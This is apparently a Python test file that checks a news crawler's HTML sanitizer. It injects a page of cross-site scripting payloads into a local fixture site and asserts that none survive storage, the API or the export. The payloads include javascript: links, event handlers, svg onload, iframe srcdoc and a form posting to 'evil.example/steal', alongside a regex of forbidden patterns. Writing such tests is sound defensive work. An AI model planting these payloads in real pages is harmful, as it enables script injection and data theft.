"""Hostile markup never reaches the stored or served HTML: a hostile article page served by the local fixture
site, really crawled into a real database, read back from the database, the API and the export; and the
migration that sanitizes the fragments stored before the sanitizer."""

from __future__ import annotations

import re
import shutil
import sqlite3

from fastapi.testclient import TestClient
from sqlalchemy import text

from cascrawl.api.app import create_app
from cascrawl.db import Database, migrate
from tests.support.fixture_site import add_new_articles, serve_site

from .conftest import FAST, SITE, run_cascrawl
from .db_backends import db_url, postgres_server  # noqa: F401  (fixtures)
from .test_db_schema import insert_as_then
from .test_db_store import article
from .test_sanitize import assert_safe

HOSTILE = """
<p onclick="alert('p')" style="width: expression(alert('css'))">第一段安全文字，点击无害。</p>
<p><a href="javascript:alert('a')">脚本链接</a><a href=" JaVa&#x09;ScRiPt:alert('b')">变形脚本链接</a>
<a href="vbscript:msgbox('c')">旧脚本</a><a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">数据链接</a>
<a href="https://www.cas.cn/yw/" target="_blank" onmouseover="alert('d')">正常链接</a></p>
<p><img src="data:image/svg+xml,&lt;svg onload=alert(1)&gt;" onerror="alert('img')"><img src="./W_hostile.jpg" onerror="alert('e')" alt="图"></p>
<svg onload="alert('svg')"><circle r="5"></circle></svg><math><mi>x</mi></math>
<base href="https://evil.example/"><meta http-equiv="refresh" content="0;url=javascript:alert('meta')">
<iframe srcdoc="&lt;script&gt;alert('frame')&lt;/script&gt;"></iframe>
<form action="https://evil.example/steal"><input name="q"><button>提交</button></form>
<object data="https://evil.example/x.swf"><embed src="https://evil.example/x.swf"></object>
<script>alert('script')</script><style>p{background:url(javascript:alert('style'))}</style>
<p>第二段安全文字。</p>
"""
# Nothing of these may be left anywhere the fragment goes.
FORBIDDEN = re.compile(r"alert|expression|javascript|vbscript|data:|onclick|onerror|onload|onmouseover|evil\.example"
                       r"|<svg|<math|<base|<meta|<iframe|<form|<object|<embed|<script|<style|srcdoc", re.IGNORECASE)


def _hostile_site(tmp_path) -> tuple:
    copy = tmp_path / "site"
    shutil.copytree(SITE, copy)
    (url,) = add_new_articles(copy, "cm", 1)
    month, name = url.rsplit("/", 2)[-2:]
    page = copy / "cm" / month / name
    html = page.read_text("utf-8")
    body = re.search(r'<div class="trs_editor_view[^>]*>', html)
    page.write_text(html[:body.end()] + HOSTILE + html[body.end():], "utf-8")
    return copy, url


def test_a_hostile_page_crawled_is_stored_and_served_sanitized(tmp_path):
    site, url = _hostile_site(tmp_path)
    db_url = f"sqlite:///{tmp_path / 'hostile.db'}"
    with serve_site(site) as base:
        result = run_cascrawl("crawl", "--base-url", base, "--db", db_url, "--section", "cm", *FAST)
    assert result.returncode == 0, result.stderr[-3000:]

    with sqlite3.connect(tmp_path / "hostile.db") as connection:
        article_id, stored_html, stored_text = connection.execute(
            "SELECT id, html, text FROM articles WHERE url = ?", (url,)).fetchone()
    assert_safe(stored_html)
    assert not FORBIDDEN.search(stored_html), stored_html
    # What the article needs stays: its text, a safe link (rel=noopener), the image from the site.
    assert "第一段安全文字，点击无害。" in stored_text and "第二段安全文字。" in stored_text
    assert '<a href="https://www.cas.cn/yw/" rel="noopener">正常链接</a>' in stored_html
    assert re.search(r'<img src="https://www\.cas\.cn/cm/\d{6}/W_hostile\.jpg" alt="图">', stored_html)

    database = Database(db_url).open(create=False)
    try:
        with TestClient(create_app(database)) as client:
            detail = client.get(f"/articles/{article_id}")
            listed = client.get("/articles", params={"limit": 200})
        assert detail.status_code == 200 and listed.status_code == 200
        assert detail.json()["html"] == stored_html
        for body in (detail.text, listed.text):
            assert not FORBIDDEN.search(body)
    finally:
        database.close()
    exported = run_cascrawl("export", "--db", db_url)
    assert exported.returncode == 0, exported.stderr
    assert url in exported.stdout and not FORBIDDEN.search(exported.stdout)


def test_the_migration_sanitizes_the_fragments_stored_before(db_url):  # noqa: F811
    database = Database(db_url)
    database.upgrade("0011_run_heartbeat")
    insert_as_then(database, article(1, html='<p onclick="alert(1)">正文<a href="javascript:alert(2)">链接</a></p>'
                                              "<script>alert(3)</script>"))
    with database.engine.begin() as connection:
        connection.execute(text(
            "INSERT INTO article_revisions (article_id, revision, url, fetched_url, docid, section, title, "
            "published_date, text, html, attachments, images, videos, content_hash, provenance, updated_at, "
            "last_seen_at, replaced_at) SELECT id, 0, url, fetched_url, docid, section, title, published_date, text, "
            "'<img src=x onerror=alert(4)>', attachments, images, videos, content_hash, provenance, updated_at, "
            "last_seen_at, updated_at FROM articles"))
        updated_before = connection.execute(text("SELECT updated_at FROM articles")).scalar()
    assert database.upgrade() == ("0011_run_heartbeat", migrate.head_revision())
    with database.engine.connect() as connection:
        html, withdrawn, updated = connection.execute(text("SELECT html, withdrawn_at, updated_at FROM articles")).one()
        revision_html = connection.execute(text("SELECT html FROM article_revisions")).scalar()
    database.close()
    assert html == '<p>正文<a rel="noopener">链接</a></p>'
    assert revision_html == '<img src="x">'
    assert withdrawn is None and updated == updated_before  # not a change the contract carries
